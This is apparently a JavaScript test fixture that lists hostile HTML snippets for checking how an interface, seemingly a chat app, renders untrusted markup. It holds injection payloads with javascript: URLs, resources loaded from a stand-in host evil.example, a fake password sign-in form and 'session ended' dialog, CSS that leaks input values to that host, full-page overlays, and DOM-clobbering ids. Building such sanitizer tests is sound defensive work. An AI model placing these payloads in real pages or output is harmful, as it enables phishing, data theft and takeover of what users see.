// Elements and attributes that load, ask, move, cover or take over, and ids that stand in for what scripts look for.

import { elsewhere, twice } from "./placements.js";

const run = "owned='WORD'";
const evil = "https://evil.example/WORD";

const loading = [
  ["a frame", `<iframe src="${evil}"></iframe>WORD`],
  ["a frame of its own text", `<iframe srcdoc="<script>parent.${run}</script>">WORD</iframe>`],
  ["a frame of a script", `<iframe src="javascript:parent.${run}">WORD</iframe>`],
  ["a frame of this page", `<iframe src="/" name=main>WORD</iframe>`],
  ["a fenced frame and a portal", `<fencedframe></fencedframe><portal src="${evil}">WORD</portal>`],
  ["an object", `<object data="${evil}" type="text/html">WORD</object>`],
  ["an object of data", `<object data="data:text/html,<script>${run}</script>">WORD</object>`],
  ["an embed", `<embed src="${evil}" type="application/x-shockwave-flash">WORD`],
  ["an applet", `<applet code="WORD" archive="${evil}.jar"><param name=x value=y></applet>`],
  ["a base", `<base href="${evil}/" target="_blank">WORD`],
  ["a style sheet", `<link rel=stylesheet href="${evil}.css">WORD`],
  ["a prefetch", `<link rel="dns-prefetch preconnect prefetch preload" href="${evil}" as=script>WORD`],
  ["an icon and a manifest", `<link rel="icon manifest" href="${evil}">WORD`],
  ["a refresh", `<meta http-equiv=refresh content="0;url=${evil}">WORD`],
  ["a refresh to a script", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${run}">WORD`],
  ["a policy", `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>WORD`],
  ["a cookie", `<meta http-equiv="Set-Cookie" content="session=WORD">`],
  ["pictures of many sizes", `<picture><source srcset="${evil} 1x, ${evil}?2 2x"><img srcset="${evil} 100w" sizes="100vw" alt=WORD></picture>`],
  ["a poster", `<video poster="${evil}.png" controls><track src="${evil}.vtt" default><source src="${evil}.mp4"></video>WORD`],
  ["a sound that plays", `<audio src="${evil}.mp3" autoplay loop>WORD</audio><bgsound src="${evil}.mid">`],
  ["a background", `<table background="${evil}"><tr><td background="${evil}">WORD</table><body background="${evil}">`],
  ["a low source", `<img lowsrc="${evil}" dynsrc="${evil}" longdesc="${evil}" alt=WORD>`],
  ["an input with a picture", `<input type=image src="${evil}" alt=WORD>`],
  ["a citation and a profile", `<blockquote cite="javascript:${run}">WORD</blockquote><head profile="${evil}">`],
  ["a page in a style sheet", `<?xml-stylesheet href="${evil}" ?><xml src="${evil}">WORD</xml>`],
];

const asking = [
  ["a form", `<form action="${evil}"><input name=password type=password placeholder="Password"><button>Sign in WORD</button></form>`],
  ["a form of a script", `<form action="javascript:${run}"><input type=submit value=WORD></form>`],
  ["a button with another form", `<button form=x formaction="javascript:${run}" formtarget=_top>WORD</button><form id=x></form>`],
  ["a form that is not closed", `<form action="${evil}" method=post>WORD`],
  ["a text field with the focus", `<textarea autofocus name=x>WORD</textarea>`],
  ["a choice", `<select autofocus name=x><option>WORD<optgroup label=y></select><datalist id=z><option value=1></datalist>`],
  ["a keyboard shortcut", `<a accesskey="r" href="${evil}">WORD</a><button accesskey=s onclick="${run}">x</button>`],
  ["text to be edited", `<div contenteditable autofocus>WORD</div><p contenteditable=plaintext-only spellcheck=false>x</p>`],
  ["things to be dragged", `<div draggable=true dropzone="copy">WORD</div>`],
  ["a dialog", `<dialog open style="position:fixed;inset:0">Your session has ended. WORD<form method=dialog></form></dialog>`],
  ["a popover", `<div popover=manual id=pop>WORD</div><button popovertarget=pop popovertargetaction=show>x</button>`],
  ["a command", `<button commandfor=main command="--x" interestfor=main>WORD</button>`],
  ["a fold that reports", `<details open ontoggle="${run}"><summary onclick="${run}">WORD</summary>x</details>`],
  ["folds of one name", `<details name=a open><summary>WORD</summary>x</details><details name=a open>y</details>`],
  ["a checkbox", `<input type=checkbox checked onchange="${run}">WORD <label for=main>x</label>`],
  ["progress and meters", `<progress value=1 max=2></progress><meter value=1>WORD</meter><output for=main>x</output>`],
];

const covering = [
  ["a style", `<style>body{display:none} .message{background:url(${evil})}</style>WORD`],
  ["a style that is not closed", `<style>* {visibility:hidden} WORD`],
  ["a style by import", `<style>@import url(${evil}.css); @font-face{font-family:x;src:url(${evil})}</style>WORD`],
  ["a style as an attribute", `<div style="background:url(${evil})">WORD</div>`],
  ["a style that covers", `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">WORD</div>`],
  ["a style that moves", `<p style="margin-top:-500px;transform:translateY(-500px) scale(9)">WORD</p>`],
  ["a style that runs in old browsers", `<p style="width:expression(${run});-moz-binding:url(${evil}#x);behavior:url(x.htc)">WORD</p>`],
  ["a style that reads", `<style>input[value^=a]{background:url(${evil}?a)}</style>WORD`],
  ["classes of our frame", `<div class="bar skip notice panel foot brand">WORD</div>`],
  ["classes of our messages", `<div class="message" data-author="assistant"><div class="message-head"><h2>Assistant</h2></div>WORD</div>`],
  ["classes that hide", `<p class="visually-hidden icons">WORD</p>`],
  ["classes of buttons", `<a class="button link-button" href="${evil}">Refresh WORD</a>`],
  ["hidden text", `<p hidden>WORD</p><div inert>x</div><p aria-hidden=true>y</p>`],
  ["a huge picture", `<img width=99999 height=99999 src=data:, alt=WORD>`],
  ["a huge rule", `<hr size=9999 width=99999 color=red>WORD<font size=+99 color=white>x</font>`],
  ["a huge table", `<table width=99999 height=9999 cellpadding=999><tr><td width=9999 nowrap>WORD</table>`],
  ["what moves", `<marquee behavior=alternate scrollamount=999>WORD</marquee><blink>x</blink>`],
  ["layers", `<layer src="${evil}" top=0 left=0>WORD</layer><ilayer></ilayer>`],
  ["roles", `<div role=alert aria-live=assertive>WORD</div><div role=dialog aria-modal=true aria-labelledby=main>x</div>`],
  ["landmarks", `<main>WORD</main><nav>x</nav><header>y</header><footer>z</footer><aside>a</aside><search>b</search>`],
  ["a shadow", `<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><slot></slot></template>WORD</div>`],
  ["a slot", `<slot name=x>WORD</slot><p slot=main>x</p>`],
  ["elements of nobody", `<x-y is=x-z>WORD</x-y><div is="x-y">x</div><neptun-share>y</neptun-share>`],
  ["a language and a direction", `<html lang=xx dir=rtl><p dir=rtl lang=ar>WORD</p><bdo dir=rtl>drow</bdo>`],
  ["print only", `<div style="display:none" media=print class=print>WORD</div>`],
];

const names = `main notice actions m-1 m-2 m-1-author icon-user icon-fold document window body head title cookie location forms
  images links scripts getElementById querySelector createElement implementation currentScript defaultView trustedTypes
  navigator self top parent name length history fetch URL customElements __proto__ constructor prototype toString valueOf
  hasOwnProperty attributes children childNodes firstChild parentNode innerHTML textContent dataset style matches remove
  append replaceChildren nodeName ownerDocument isConnected addEventListener submit action method elements strings api
  owned reading find theme outline`.split(/\s+/);

const holders = [
  (name) => `<a id="${name}" name="${name}" href="https://example.com/WORD">WORD</a>`,
  (name) => `<img name="${name}" id="${name}" alt=WORD>`,
  (name) => `<form id=x name="${name}"><input name="${name}" id="${name}" value=WORD></form>`,
  (name) => `<p id="${name}">WORD</p><p id="${name}">twice</p>`,
  (name) => `<iframe name="${name}" srcdoc="<a id=x>">WORD</iframe>`,
  (name) => `<h2 id='${name}'>WORD</h2>`,
  (name) => `<object id="${name}" name="${name}">WORD</object><embed name="${name}">`,
  (name) => `<details id="${name}" name="${name}"><summary>WORD</summary></details>`,
];

const clobbering = names.map((name, i) => [`the name ${name}`, holders[i % holders.length](name)]);

export const elements = [...twice([...loading, ...asking, ...covering]), ...elsewhere(clobbering)];
